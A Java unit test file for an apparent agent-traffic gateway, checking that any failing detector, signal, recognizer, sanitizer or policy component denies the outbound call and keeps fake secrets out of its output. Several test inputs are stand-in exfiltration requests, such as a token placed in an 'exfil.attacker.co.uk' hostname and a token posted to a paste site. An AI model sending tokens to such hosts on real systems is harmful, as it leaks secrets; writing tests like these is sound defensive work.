package io.interven.gateway.core;

import static io.interven.gateway.core.CallInputs.call;
import static org.assertj.core.api.Assertions.assertThat;

import io.interven.gateway.config.RiskConfiguration;
import io.interven.gateway.core.fields.CallSlots;
import io.interven.gateway.policy.ActivePolicies;
import io.interven.gateway.policy.BuiltinDefaultPolicy;
import io.interven.gateway.policy.Decision;
import io.interven.gateway.policy.GatewayReasonCodes;
import io.interven.gateway.policy.Policy;
import io.interven.gateway.policy.PolicyEngine;
import io.interven.gateway.policy.PolicySource;
import io.interven.gateway.policy.RiskBand;
import io.interven.spi.DataClasses;
import io.interven.spi.Finding;
import io.interven.spi.ScanField;
import io.interven.spi.SignalResult;
import io.interven.spi.ToolMatch;
import io.interven.spi.Verb;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Whatever a plugin component or a stage does wrong, an {@link Error} such as a stack overflow or running out of
 * memory included, the pipeline answers DENY with PIPELINE_FAILURE, never ALLOW.
 */
class ScanPipelineFailClosedTest {
    static final String LEAKY = "secret sk_live_q7x9k2m4p8w1 in message";
    static final CallInput BENIGN = call("POST", "https://hooks.slack.com/services/T/B/x", Map.of(),
            "{\"text\": \"hello\"}");

    static Stream<Arguments> brokenComponents() {
        return Stream.of(
                broken("a detector that throws", "detector boom", PipelineFixture.withDetectors(
                        FakePlugins.detector("boom", field -> {
                            throw new IllegalStateException(LEAKY);
                        }))),
                broken("a detector missing a class", "detector linkage", PipelineFixture.withDetectors(
                        FakePlugins.detector("linkage", field -> {
                            throw new NoClassDefFoundError("com/acme/Missing");
                        }))),
                broken("a detector answering null", "detector null", PipelineFixture.withDetectors(
                        FakePlugins.detector("null", field -> null))),
                broken("a detector reporting another field", "detector elsewhere", PipelineFixture.withDetectors(
                        FakePlugins.detector("elsewhere", field -> List.of(new ScanField("$.other",
                                field.location(), null, "x").finding("X", DataClasses.PII, 0, 1, 1.0, "r"))))),
                broken("a detector reporting past the end of its field", "detector overrun",
                        PipelineFixture.withDetectors(
                                FakePlugins.detector("overrun", ScanPipelineFailClosedTest::pastEnd))),
                broken("a signal that throws", "signal boom", PipelineFixture.withSignals(
                        FakePlugins.signal("boom", context -> {
                            throw new IllegalArgumentException(LEAKY);
                        }))),
                broken("a recognizer that throws", "tool recognizer boom", PipelineFixture.withRecognizers(
                        FakePlugins.recognizer("boom", c -> {
                            throw new UnsupportedOperationException(LEAKY);
                        }))),
                broken("a detector overflowing its stack", "detection", PipelineFixture.withDetectors(
                        FakePlugins.detector("deep", field -> List.of(new Finding[depth(field.text(), 0)])))),
                broken("a detector running out of memory", "detection", PipelineFixture.withDetectors(
                        FakePlugins.detector("greedy", field -> List.of(new Finding[hugeArray()])))),
                broken("a recognizer overflowing its stack", "tool identification", PipelineFixture.withRecognizers(
                        FakePlugins.recognizer("deep", c -> Optional.of(new ToolMatch("x", "y",
                                Verb.values()[depth(c.host(), 0)]))))),
                broken("a signal running out of memory", "signals", PipelineFixture.withSignals(
                        FakePlugins.signal("greedy", context -> Optional.of(new SignalResult("s", "R",
                                hugeArray(), "d"))))),
                broken("a policy source overflowing its stack", "policy", PipelineFixture.pipeline(List.of(),
                        List.of(), List.of(), (tenant, env) -> ActivePolicies.of(List.of(new Policy[depth(env, 0)])))));
    }

    /** Recursion without end: a real {@link StackOverflowError}. */
    static int depth(String text, int level) {
        return depth(text, level + 1) + text.length();
    }

    /** Asks for an array larger than any heap: a real {@link OutOfMemoryError}, thrown without filling the heap. */
    static int hugeArray() {
        long[] huge = new long[Integer.MAX_VALUE];
        return huge.length;
    }

    @Test
    void aSanitizerRunningOutOfMemoryDeniesTheCall() {
        Sanitizer greedy = new Sanitizer() {
            @Override
            public SanitizedCall sanitize(CallInput call, CallSlots slots, List<Finding> dataFindings) {
                return new SanitizedCall(null, null, null, hugeArray());
            }
        };
        ScanPipeline pipeline = new ScanPipeline(new ToolIdentifier(List.of()),
                new DetectorRunner(List.of(FakePlugins.issuedTokenDetector())), new SignalRunner(List.of()),
                new RiskScorer(new RiskConfiguration()), new PolicyEngine(BuiltinDefaultPolicy.create()),
                PolicySource.NONE, greedy);

        ScanOutcome outcome = pipeline.scan(call("POST", "https://paste.example.net/new", Map.of(),
                "{\"text\": \"tok_abcdefgh\"}"));

        assertThat(outcome.decision()).isEqualTo(Decision.DENY);
        assertThat(outcome.reasonCodes()).containsExactly(GatewayReasonCodes.PIPELINE_FAILURE);
        assertThat(outcome.failure()).isEqualTo("sanitizing");
    }

    @Test
    void aFailedScanKeepsOnlyTheRegistrableDomainOfItsHostAndNoTelemetry() {
        ScanPipeline pipeline = PipelineFixture.withDetectors(FakePlugins.detector("boom", field -> {
            throw new IllegalStateException(LEAKY);
        }));

        ScanOutcome outcome = pipeline.scan(call("GET", "https://tok-abcdefgh.exfil.attacker.co.uk/x/secret-path",
                Map.of(), null));

        assertThat(outcome.policyInput().host()).isEqualTo("attacker.co.uk");
        assertThat(outcome.policyInput().path()).isNull();
        assertThat(outcome.policyInput().agentName()).isNull();
        assertThat(outcome.policyInput().runtimeType()).isNull();
        assertThat(outcome.bodyFingerprint()).matches("[0-9a-f]{64}");
    }

    /** A host with an underscore is read as the scan reads it, and still only its registrable domain is kept. */
    @Test
    void aFailedScanOfAHostWithAnUnderscoreKeepsItsRegistrableDomain() {
        ScanPipeline pipeline = PipelineFixture.withDetectors(FakePlugins.detector("boom", field -> {
            throw new IllegalStateException(LEAKY);
        }));

        ScanOutcome underscored = pipeline.scan(call("GET", "https://tok_abcdefgh.exfil.attacker.co.uk/x", Map.of(),
                null));
        ScanOutcome container = pipeline.scan(call("GET", "http://tool_server:8000/run", Map.of(), null));

        assertThat(underscored.decision()).isEqualTo(Decision.DENY);
        assertThat(underscored.policyInput().host()).isEqualTo("attacker.co.uk");
        assertThat(container.policyInput().host()).isEqualTo("tool_server");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("brokenComponents")
    void aBrokenComponentDeniesTheCallNamingTheComponentOnly(ScanPipeline pipeline, String component) {
        ScanOutcome outcome = pipeline.scan(BENIGN);

        assertThat(outcome.decision()).isEqualTo(Decision.DENY);
        assertThat(outcome.reasonCodes()).containsExactly(GatewayReasonCodes.PIPELINE_FAILURE);
        assertThat(outcome.risk().band()).isEqualTo(RiskBand.CRITICAL);
        assertThat(outcome.failure()).isEqualTo(component);
        assertThat(outcome.verdict()).isNull();
        assertThat(outcome.sanitized()).isNull();
        assertThat(outcome.toString()).doesNotContain("sk_live_q7x9k2m4p8w1");
    }

    @Test
    void theSameCallWithWorkingComponentsIsAllowed() {
        ScanOutcome outcome = PipelineFixture.withDetectors(FakePlugins.detector("quiet", field -> List.of()))
                .scan(BENIGN);

        assertThat(outcome.decision()).isEqualTo(Decision.ALLOW);
        assertThat(outcome.failure()).isNull();
    }

    @Test
    void aSignalAnsweringNullIsTreatedAsNotFired() {
        ScanOutcome outcome = PipelineFixture.withSignals(FakePlugins.signal("null", context -> null)).scan(BENIGN);

        assertThat(outcome.decision()).isEqualTo(Decision.ALLOW);
        assertThat(outcome.signals()).isEmpty();
    }

    @Test
    void aRecognizerAnsweringEmptyLeavesTheCallUnknown() {
        ScanOutcome outcome = PipelineFixture.withRecognizers(FakePlugins.recognizer("none", c -> Optional.empty()))
                .scan(BENIGN);

        assertThat(outcome.tool().toolName()).isEqualTo(ToolIdentifier.UNKNOWN_TOOL);
        assertThat(outcome.tool().operation()).isEqualTo("http_post");
    }

    private static List<Finding> pastEnd(ScanField field) {
        return List.of(new Finding("X", DataClasses.PII, field.path(), field.location(), 0, field.text().length() + 1,
                1.0, "r", null));
    }

    private static Arguments broken(String what, String component, ScanPipeline pipeline) {
        return Arguments.of(Named.of(what, pipeline), component);
    }
}
